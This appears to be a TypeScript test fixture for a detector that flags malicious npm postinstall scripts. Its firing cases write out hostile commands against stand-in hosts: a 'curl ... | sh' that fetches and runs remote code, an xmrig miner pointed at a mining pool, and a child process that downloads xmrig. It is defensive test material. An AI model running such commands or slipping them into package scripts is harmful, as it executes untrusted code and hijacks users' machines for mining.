import { acted, started } from '../../../tests/entry-story.ts';
import type { DetectorFixture } from '../../../tests/fixture.ts';

const script = (carries: 'miner' | 'download' | 'command', command: string) =>
  acted(0, { action: 'package-installed', what: 'tiny-colours@1.4.1 (postinstall)', command, carries });

export const fixture: DetectorFixture = {
  fires: [
    { name: 'a script that fetches', seen: [script('download', 'curl http://h.example/x | sh')], stage: 'mention' },
    {
      name: 'a script that brings a miner',
      seen: [script('miner', './xmrig -o pool.example.com:3333')],
      stage: 'capability',
    },
    {
      name: 'a script whose child fetches a miner',
      seen: [
        script('command', 'node install.js'),
        started(4, {
          why: ['fetches', 'package-script'],
          folder: '/srv/app/node_modules/tiny-colours',
          command: 'curl -O http://h.example/xmrig',
        }),
      ],
      stage: 'capability',
    },
  ],
  silent: [
    { name: 'a script that builds', seen: [script('command', 'node-gyp rebuild')] },
    { name: 'a script, and a download that is not its own', seen: [script('command', 'node install.js'), started(4)] },
  ],
};
